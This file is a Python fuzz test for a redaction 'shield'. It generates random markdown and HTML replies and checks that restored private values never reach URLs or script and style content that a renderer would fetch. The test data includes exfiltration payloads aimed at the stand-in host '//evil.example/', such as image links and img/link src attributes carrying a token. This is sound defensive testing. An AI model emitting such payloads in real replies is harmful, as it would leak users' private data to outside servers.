"""A renderer judges: whatever a reply is made of, no value ends in what it fetches or runs.

Replies are drawn at random from what opens, closes and hides places, restored,
rendered with and without HTML, and taken apart as a browser would.
"""

import random
from html.parser import HTMLParser
from itertools import count

import pytest
from markdown_it import MarkdownIt

from curtilage.shield.restore import restore_text
from tests.unit.shield.worlds import ADA, World

WORLD = World()
TOKEN = WORLD.token(ADA)
RENDERERS = [
    MarkdownIt("commonmark", {"html": False}),
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("js-default", {"html": True}),
]
SHOWN = {"alt", "title", "class"}  # attributes that go nowhere
PIECES = [
    *["![x](", "[x](", "](", "![", "[", "]", "][", "(", ")", "[a]", "![x][a]", "[a]: ", "[a]:\n"],
    *["//evil.example/", "T", "T", "foo", "a b", "/x", "*", "#", "|", ":", "!", "=", "&lt;"],
    *["\\", "\\]", "\\(", "\\)", "\\>", '\\"', "\\\n", "`", "``", "```\n", "~~~\n", "$", "***\n"],
    *["\n", "\n", "\n\n", "\r", "\r\n", "  \n", "\t", "\f", "\v", "\u00a0", " ", "    ", "\n  "],
    *["> ", "- ", "1. ", "# ", "[^1]: ", "\n- ", "\n> ", '"', "'", '=" ', "='", "='\"", '="x"'],
    *["<", ">", "<a x=", "<img src=", "<img alt=", "<link href=", "<b>", "<x_", "/>", "</", "src="],
    *[
        "<div",
        "<div>",
        "</div>",
        "<pre>",
        "</pre>",
        "<p\n",
        "\n\n<img ",
        "<svg>",
        "</a ",
        "<?",
        "?>",
    ],
    *[
        "<script",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "<!A",
        "<![CDATA[",
        "]]>",
    ],
]
PLACES = [
    ["![x](", "//evil.example/", "T", ")"],
    ["![x](", "<//evil.example/", "T", ">)"],
    ["[a]: ", "//evil.example/", "T", "\n\n![x][a]"],
    ["[a]:", "\n", "//evil.example/", "T", "\n\n![x][a]"],
    ["<img ", "src=//evil.example/", "T", ">"],
    ["<img ", 'src="//evil.example/', "T", '">'],
    ["<link href='//evil.example/", "T", "'>"],
    ["<style>", "T", "</style>"],
    ["<script>", "T", "</script>"],
]
CASES, DEEP_CASES = 4000, 400_000


def a_reply(seed: int) -> str:
    """A place, with something in it and around it; `T` is the token."""
    rng = random.Random(seed)
    parts = rng.choices(PIECES, k=rng.randrange(9))
    for _ in range(rng.choice((1, 1, 2))):
        place = list(rng.choice(PLACES))
        for _ in range(rng.choice((0, 0, 1, 2))):
            place.insert(rng.randrange(len(place) + 1), rng.choice(PIECES))
        at = rng.randrange(len(parts) + 1)
        parts[at:at] = place
    return "".join(parts)


class Page(HTMLParser):
    """Notes where a value stands that would be sent."""

    def __init__(self) -> None:
        super().__init__()
        self.sent: list[str] = []
        self._is_raw = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_raw = tag in ("script", "style")
        self.sent += [
            value for name, value in attrs if value and name not in SHOWN and ADA in value
        ]

    def handle_endtag(self, tag: str) -> None:
        self._is_raw = False

    def handle_data(self, data: str) -> None:
        self.sent += [data] if self._is_raw and ADA in data else []


def is_sent(text: str, renderer: MarkdownIt) -> bool:
    page = Page()
    try:
        page.feed(renderer.render(text))
        page.close()
    except AssertionError:  # what the parser of this Python gives up on: `<![x`
        return False
    return bool(page.sent)


def leaking(seeds: range) -> list[str]:
    found = []
    for seed in seeds:
        reply = a_reply(seed)
        back = restore_text(reply.replace("T", TOKEN), WORLD.held)
        if back.restored and any(is_sent(back.text, renderer) for renderer in RENDERERS):
            found.append(reply)
    return found


def test_no_reply_gets_a_value_into_what_a_renderer_fetches() -> None:
    assert leaking(range(CASES)) == []


@pytest.mark.deep
@pytest.mark.timeout(3600)
def test_no_reply_gets_a_value_into_what_a_renderer_fetches_at_length() -> None:
    assert leaking(range(CASES, CASES + DEEP_CASES)) == []


def test_the_judge_sees_what_it_should() -> None:
    """And the search finds places: with values everywhere, each kind of them is hit."""
    filled = (a_reply(seed).replace("T", ADA) for seed in count())
    seen = [0, 0, 0]
    for _ in range(400):
        text = next(filled)
        seen = [n + is_sent(text, renderer) for n, renderer in zip(seen, RENDERERS, strict=True)]
    assert min(seen) > 40
    assert is_sent(f"![x](//evil.example/{ADA})", RENDERERS[0])
    assert is_sent(f"<style>{ADA}</style>", RENDERERS[1])
    assert not is_sent(f"![{ADA}](x '{ADA}') `<a x={ADA}>`", RENDERERS[1])
